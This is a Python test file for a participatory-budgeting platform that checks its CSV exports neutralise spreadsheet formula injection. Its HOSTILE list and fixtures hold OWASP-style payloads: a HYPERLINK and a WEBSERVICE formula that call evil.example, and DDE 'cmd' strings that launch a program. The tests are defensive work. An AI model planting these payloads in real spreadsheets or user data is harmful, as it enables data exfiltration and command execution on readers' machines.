"""Every CSV the platform writes goes through participatory.csvfiles, whose text cells cannot be formulas."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import select

from participatory import csvfiles
from participatory.calls.models import Proposal

ROOT = Path(__file__).resolve().parents[1]

# OWASP's formula starters, with payloads a spreadsheet would run or a reader would be fooled by.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "=1+1",
    "+33 1 23 45 67 89",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_beginning_a_formula_gets_a_leading_quote(value):
    assert csvfiles.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Ana", "", "Projet = école", "1+1", "'=déjà", " =espace"])
def test_other_text_is_unchanged(value):
    assert csvfiles.neutralise(value) == value


@pytest.mark.parametrize("value", [-1, -2.5, 0, 12, True])
def test_numbers_the_platform_writes_stay_numbers(value):
    out = io.StringIO()
    csvfiles.writer(out, lineterminator="\n").writerow([value])
    assert out.getvalue() == str(value) + "\n"


def test_dict_writer_neutralises_values_not_the_header():
    out = io.StringIO()
    w = csvfiles.dict_writer(out, ["a", "b"], lineterminator="\n")
    w.writeheader()
    w.writerows([{"a": "=1", "b": -3}])
    assert out.getvalue() == "a,b\n'=1,-3\n"


_CSV_WRITER = re.compile(r"\bcsv\s*\.\s*(writer|DictWriter)\s*\(|from\s+csv\s+import\s+[^\n]*\b(writer|DictWriter)\b")


NOT_OURS = {"tests", "node_modules", ".venv", ".venv-addok"}


def test_no_module_writes_csv_except_through_csvfiles():
    """Proves the one-writer rule: any csv.writer/DictWriter outside csvfiles.py fails here."""
    offenders = []
    for path in ROOT.rglob("*.py"):  # NOT_OURS: the tests, and installed packages
        rel = path.relative_to(ROOT)
        if rel.parts[0] in NOT_OURS or rel == Path("participatory/csvfiles.py"):
            continue
        if _CSV_WRITER.search(path.read_text(encoding="utf-8")):
            offenders.append(str(rel))
    assert offenders == []


def test_the_one_writer_check_can_fail():
    assert _CSV_WRITER.search("w = csv.writer(f)") and _CSV_WRITER.search("from csv import DictWriter")


def _rows(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def _cells(text: str) -> list[str]:
    return [cell for row in _rows(text) for cell in row]


def _is_number(cell: str) -> bool:
    """The platform's own numbers (a negative longitude) are written as numbers."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_no_formula(cells: list[str], hostile: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(csvfiles.FORMULA_PREFIXES) or _is_number(cell), cell
    for value in hostile:
        assert "'" + value in cells, value


def _hostile_call(session, now):
    from participatory.calls.services.results import close_call
    from tests.builders import make_closed_call

    world = make_closed_call(session, now, proposals=len(HOSTILE) + 1, close=False)
    proposals = session.scalars(select(Proposal).where(Proposal.call_id == world.call.id).order_by(Proposal.id)).all()
    for proposal, title in zip(proposals, HOSTILE, strict=False):
        proposal.title = title  # stored before this fix, or by any other path
    world.call.title = '=WEBSERVICE("http://evil.example")'
    session.flush()
    # Published after the titles were written: the files frozen at publication hold them.
    world.result = close_call(session, world.call.id, now)
    session.commit()
    return world


def test_public_national_csvs_neutralise_titles(client, session, now):
    _hostile_call(session, now)
    results = client.get("/api/v1/national/results.csv").get_data(as_text=True)
    calls = client.get("/api/v1/national/calls.csv").get_data(as_text=True)
    _assert_no_formula(_cells(results), HOSTILE)
    _assert_no_formula(_cells(calls), ['=WEBSERVICE("http://evil.example")'])
    # Platform numbers are still numbers: cost and votes parse as integers.
    header, *body = _rows(results)
    assert all(int(r[header.index("cost_cents")]) > 0 for r in body)


def test_audit_export_csvs_neutralise_titles(session, now):
    from participatory.calls.exports import published_export

    world = _hostile_call(session, now)
    export, _ = published_export(session, world.call, now)
    for name in ("results.csv", "proposals.csv"):
        _assert_no_formula(_cells(export.files[name].decode()), HOSTILE)


def test_the_pabulib_export_is_an_interchange_file_kept_verbatim(session, now):
    """pabutools must read the names back unchanged: the .pb file is not a spreadsheet CSV."""
    from participatory.calls.exports import published_export

    world = _hostile_call(session, now)
    pb = published_export(session, world.call, now)[0].files["ballots.pb"].decode()
    assert "=1+1" in pb and "'=1+1" not in pb


def test_the_ledger_neutralises_donor_fields(now):
    from participatory.crowdfunding.models import Candidacy, Donation
    from participatory.crowdfunding.services.ledger import ledger_csv

    fields = ("first_name", "last_name", "email", "address", "postal_code", "city")
    donations = [
        Donation(
            id=i + 1,
            status="succeeded",
            created_at=now - timedelta(hours=1),
            succeeded_at=now,
            amount_cents=5000,
            currency="eur",
            eligibility="nationality",
            country="FR",
            receipt_number=i + 1,
            over_cap=False,
            **{f: value for f in fields},
        )
        for i, value in enumerate(HOSTILE)
    ]
    text = ledger_csv(Candidacy(id=7), donations)
    header, *body = _rows(text)
    _assert_no_formula([c for r in body for c in r], HOSTILE)
    assert {r[header.index("amount_eur")] for r in body} == {"50.00"}


def test_the_national_donation_csv_neutralises_candidate_fields(session, now):
    from participatory.crowdfunding.services.opendata import national_csv
    from tests.crowdfunding.conftest import build_world

    world = build_world(session, now)
    world.candidacy.candidate_name = "=1+1"
    world.candidacy.party_label = "@SUM(A1)"
    session.flush()
    _assert_no_formula(_cells(national_csv(session)), ["=1+1", "@SUM(A1)"])


def test_the_letters_csv_neutralises_addresses(app, now):
    from participatory.accounts.printing import LetterContext, render_csv
    from participatory.accounts.services.letters import PrintableLetter

    letters = [
        PrintableLetter(i, "33-04", value, value, value, "33000", value, None, "12345-67890", now)
        for i, value in enumerate(HOSTILE)
    ]
    with app.test_request_context():
        text = render_csv(letters, LetterContext("Gironde", "https://x", "fr")).decode("utf-8-sig")
    _assert_no_formula(_cells(text), HOSTILE)
